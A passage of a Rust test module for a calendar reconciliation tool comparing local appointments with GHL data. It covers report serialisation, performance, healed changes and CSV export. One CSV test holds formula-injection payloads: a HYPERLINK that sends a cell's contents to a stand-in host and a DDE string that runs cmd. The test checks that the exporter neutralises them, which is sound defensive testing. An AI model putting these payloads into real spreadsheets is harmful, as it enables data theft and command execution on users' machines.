                "compared",
                "counts",
                "desincronizadas",
                "diff_us",
                "duration_ms",
                "faltantes_local",
                "faltantes_remoto",
                "fecha",
                "ghl_calls",
                "healed",
                "live_changes",
                "location_id",
                "lost_webhooks",
                "window_end",
                "window_start",
            ]
        );
        assert_eq!(json["fecha"], "2026-11-23");
        let line_keys = [
            "calendar_id",
            "contact_id",
            "id",
            "start_local",
            "status",
            "title",
        ];
        for list in [
            "faltantes_local",
            "canceladas_no_actualizadas",
            "faltantes_remoto",
        ] {
            assert_eq!(json[list].as_array().unwrap().len(), 1, "{list}");
            assert_eq!(keys(&json[list][0]), line_keys, "{list}");
        }
        let drift = &json["desincronizadas"][0];
        assert_eq!(
            keys(drift),
            ["calendar_id", "diferencias", "id", "start_local", "title"]
        );
        assert_eq!(
            drift["diferencias"][0],
            serde_json::json!({"campo": "calendar", "local": "cal-1", "ghl": "cal-2"})
        );
        assert_eq!(
            json["counts"],
            serde_json::json!({
                "faltantes_local": 1,
                "canceladas_no_actualizadas": 1,
                "desincronizadas": 1,
                "faltantes_remoto": 1,
                "total": 4
            })
        );
        assert_eq!(
            serde_json::to_value(Campo::AssignedUser).unwrap(),
            "assigned_user"
        );
        // And back: a stored report reads as it was written.
        let back: ReconciliationReport = serde_json::from_value(json).unwrap();
        assert_eq!(back, report);
    }

    #[test]
    fn reconcile_snapshot_from_ghl_matches_the_stored_row() {
        let e: Appointment = serde_json::from_value(serde_json::json!({
            "id": "ev-1",
            "calendarId": "cal-1",
            "locationId": "loc-1",
            "contactId": "",
            "title": "Consulta",
            "assignedUserId": "u-1",
            "startTime": "2026-11-23T23:30:00-05:00",
            "endTime": "2026-11-24T00:00:00-05:00"
        }))
        .unwrap();
        let s = crate::mapping::cita_row("loc-1", &e, lima()).unwrap();
        assert_eq!(s.status, "new");
        assert_eq!(s.contact_id, None);
        assert_eq!(time::local_string(s.start, lima()), "2026-11-23T23:30:00");
        let row = s.clone();
        assert!(run(std::slice::from_ref(&s), &[row]).is_empty());

        let mut bad = e.clone();
        bad.start_time = "mañana".into();
        assert!(crate::mapping::cita_row("loc-1", &bad, lima()).is_err());
    }

    #[test]
    fn reconcile_timing_month_of_twenty_calendars() {
        const CALENDARS: usize = 20;
        const DAYS: usize = 31;
        const PER_DAY: usize = 40;
        let zone = lima();
        let first = time::start_of_day(NaiveDate::from_ymd_opt(2026, 11, 1).unwrap(), zone);

        let mut ghl = Vec::with_capacity(CALENDARS * DAYS * PER_DAY);
        let mut local = Vec::with_capacity(CALENDARS * DAYS * PER_DAY);
        let mut pending = HashSet::new();
        let mut i = 0usize;
        for cal in 0..CALENDARS {
            for day in 0..DAYS {
                for k in 0..PER_DAY {
                    // 07:00 to 20:00, every 20 minutes.
                    let start = first
                        + Duration::days(day as i64)
                        + Duration::hours(7)
                        + Duration::minutes(20 * k as i64);
                    let c = CitaRow {
                        id: format!("ev-{cal:02}-{day:02}-{k:02}"),
                        location_id: "loc-1".into(),
                        calendar_id: format!("cal-{cal:02}"),
                        contact_id: Some(format!("contact-{}", i % 5000)),
                        assigned_user_id: Some(format!("user-{cal:02}")),
                        title: format!("Consulta {i}"),
                        status: "confirmed".into(),
                        start,
                        end: start + Duration::minutes(20),
                        date_updated: None,
                        raw: "{}".into(),
                    };
                    let mut g = c.clone();
                    match i % 100 {
                        0 => {
                            ghl.push(g);
                            i += 1;
                            continue;
                        }
                        1 => {
                            local.push(c);
                            i += 1;
                            continue;
                        }
                        2 => g.status = CANCELLED.into(),
                        3 => g.title = format!("Control {i}"),
                        4 => g.calendar_id = format!("cal-{:02}", (cal + 1) % CALENDARS),
                        5 => {
                            g.start += Duration::minutes(20);
                            g.end += Duration::minutes(20);
                        }
                        6 => {
                            g.status = "showed".into();
                            pending.insert(g.id.clone());
                        }
                        _ => {}
                    }
                    ghl.push(g);
                    local.push(c);
                    i += 1;
                }
            }
        }
        let total = CALENDARS * DAYS * PER_DAY;
        assert_eq!(total, 24_800);
        let each = (total / 100) as u32;
        assert_eq!(ghl.len(), total - each as usize);
        assert_eq!(local.len(), total - each as usize);

        let started = std::time::Instant::now();
        let d = diff(&ghl, &local, &pending, zone, PendingNotInGhl::Skip);
        let elapsed = started.elapsed();
        eprintln!(
            "reconcile::diff: {} GHL x {} local citas, {} lines in {:.1} ms",
            ghl.len(),
            local.len(),
            d.counts().total,
            elapsed.as_secs_f64() * 1000.0
        );
        assert_eq!(
            d.counts(),
            ReportCounts {
                faltantes_local: each,
                canceladas_no_actualizadas: each,
                desincronizadas: 3 * each,
                faltantes_remoto: each,
                total: 6 * each,
            }
        );
        let started = std::time::Instant::now();
        let again = diff(
            &shuffled(&ghl, 3),
            &shuffled(&local, 5),
            &pending,
            zone,
            PendingNotInGhl::Skip,
        );
        eprintln!(
            "reconcile::diff (shuffled inputs, incl. shuffle): {:.1} ms",
            started.elapsed().as_secs_f64() * 1000.0
        );
        assert_eq!(again, d);
    }

    fn report_with(title: &str, local: &str, ghl: &str) -> ReconciliationReport {
        let line = ReportLine {
            id: "e1".into(),
            calendar_id: "C1".into(),
            start_local: "2026-12-04 09:00".into(),
            title: title.into(),
            status: "confirmed".into(),
            contact_id: None,
            notes: LineNotes::default(),
        };
        let diff = ReconciliationDiff {
            faltantes_local: vec![line],
            desincronizadas: vec![DriftLine {
                id: "e2".into(),
                calendar_id: "C1".into(),
                start_local: "2026-12-04 10:00".into(),
                title: "Control".into(),
                diferencias: vec![FieldDiff {
                    campo: Campo::Title,
                    local: Some(local.into()),
                    ghl: Some(ghl.into()),
                }],
                notes: LineNotes::default(),
            }],
            ..Default::default()
        };
        let day = NaiveDate::from_ymd_opt(2026, 12, 4).unwrap();
        let now = Utc::now();
        ReconciliationReport::new("L", day, (now, now), diff, 1, 1)
    }

    /// Cells of a CSV without quoted newlines (enough for these reports).
    fn cells(csv: &str) -> Vec<Vec<String>> {
        csv.lines()
            .skip(1)
            .map(|l| {
                let mut out = vec![String::new()];
                let mut quoted = false;
                let mut chars = l.chars().peekable();
                while let Some(c) = chars.next() {
                    match c {
                        '"' if quoted && chars.peek() == Some(&'"') => {
                            chars.next();
                            out.last_mut().unwrap().push('"');
                        }
                        '"' => quoted = !quoted,
                        ',' if !quoted => out.push(String::new()),
                        c => out.last_mut().unwrap().push(c),
                    }
                }
                out
            })
            .collect()
    }

    #[test]
    fn csv_cells_a_spreadsheet_would_run_start_with_a_quote() {
        let link = r#"=HYPERLINK("http://x.example/?d="&A1,"ver")"#;
        let dde = "+51 999 =cmd|' /C calc'!A0";
        let csv = to_csv(&report_with(link, dde, "@SUM(1+1)"));
        let rows = cells(&csv);
        assert_eq!(rows[0][5], format!("'{link}"));
        assert_eq!(rows[1][8], format!("'{dde}"), "a phone stays readable");
        assert_eq!(rows[1][9], "'@SUM(1+1)");
        for cell in rows.iter().flatten() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} in {csv}"
            );
        }

        for (raw, shown) in [
            ("-2+3", "'-2+3"),
            ("\tx", "'\tx"),
            ("=1", "'=1"),
            ("Control 15:00", "Control 15:00"),
            ("Ana, control", "Ana, control"),
            ("a=b", "a=b"),
        ] {
            assert_eq!(cells(&to_csv(&report_with(raw, "x", "y")))[0][5], shown);
        }
        // A carriage return is quoted as well as neutralised.
        assert!(to_csv(&report_with("\r=1", "x", "y")).contains("\"'\r=1\""));
        // Untouched fields keep their form.
        assert!(csv.contains(",2026-12-04 09:00,"));
    }

    #[test]
    fn healed_changes_fall_in_the_seed_categories() {
        let b = snap("a", "cal-1", "2026-11-23T09:00:00");
        let mut cancelled = b.clone();
        cancelled.status = CANCELLED.into();
        let mut moved = b.clone();
        moved.start += Duration::hours(1);
        moved.end += Duration::hours(1);
        moved.calendar_id = "cal-2".into();
        let mut touched = b.clone();
        touched.raw = "{\"other\":1}".into();
        touched.date_updated = Some("2026-11-23T10:00:00Z".into());
        let cat = |x: Option<&CitaRow>, y: Option<&CitaRow>| {
            healed_line(x, y, lima()).map(|l| l.category())
        };
        assert_eq!(cat(None, Some(&b)), Some(Category::FaltantesLocal));
        assert_eq!(cat(Some(&b), None), Some(Category::FaltantesRemoto));
        assert_eq!(
            cat(Some(&b), Some(&cancelled)),
            Some(Category::CanceladasNoActualizadas)
        );
        assert_eq!(cat(Some(&b), Some(&moved)), Some(Category::Desincronizadas));
        // A change of what reconciliation does not compare is no difference.
        assert_eq!(cat(Some(&b), Some(&touched)), None);
        assert_eq!(cat(Some(&cancelled), Some(&cancelled)), None);
        match healed_line(Some(&b), Some(&moved), lima()) {
            Some(HealedLine::Drift(d)) => {
                let campos: Vec<Campo> = d.diferencias.iter().map(|f| f.campo).collect();
                assert_eq!(campos, [Campo::Start, Campo::End, Campo::Calendar]);
                assert_eq!(
                    d.diferencias[0].local.as_deref(),
                    Some("2026-11-23T09:00:00")
                );
                assert_eq!(d.diferencias[0].ghl.as_deref(), Some("2026-11-23T10:00:00"));
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn healed_lines_lead_their_lists_once_and_are_counted() {
        let a = snap("a", "cal-1", "2026-11-23T09:00:00");
        let b = snap("b", "cal-1", "2026-11-23T10:00:00");
        // The comparison also finds "b" missing here: one line, the healed one.
        let d = run(std::slice::from_ref(&b), &[]);
        let fecha = NaiveDate::from_ymd_opt(2026, 11, 23).unwrap();
        let mut report = ReconciliationReport::new(
            "loc-1",
            fecha,
            time::days_range(fecha, 31, lima()),
            d,
            21,
            5,
        );
        let mut cancelled = a.clone();
        cancelled.status = CANCELLED.into();
        report.add_healed(vec![
            (
                healed_line(Some(&a), Some(&cancelled), lima()).unwrap(),
                Via::Pull,
                true,
            ),
            (
                healed_line(None, Some(&b), lima()).unwrap(),
                Via::Webhook,
                false,
            ),
        ]);
        assert_eq!(report.counts.total, 2);
        assert_eq!(ids(&report.faltantes_local), ["b"]);
        assert_eq!(report.faltantes_local[0].notes.via, Some(Via::Webhook));
        assert_eq!(ids(&report.canceladas_no_actualizadas), ["a"]);
        assert!(report.canceladas_no_actualizadas[0].notes.lost_webhook);
        assert_eq!(
            (report.healed, report.live_changes, report.lost_webhooks),
            (2, 1, 1)
        );
        let json = serde_json::to_value(&report).unwrap();
        assert_eq!(json["canceladas_no_actualizadas"][0]["via"], "pull");
        assert_eq!(json["canceladas_no_actualizadas"][0]["lost_webhook"], true);
        assert_eq!(json["faltantes_local"][0].get("lost_webhook"), None);
    }
}
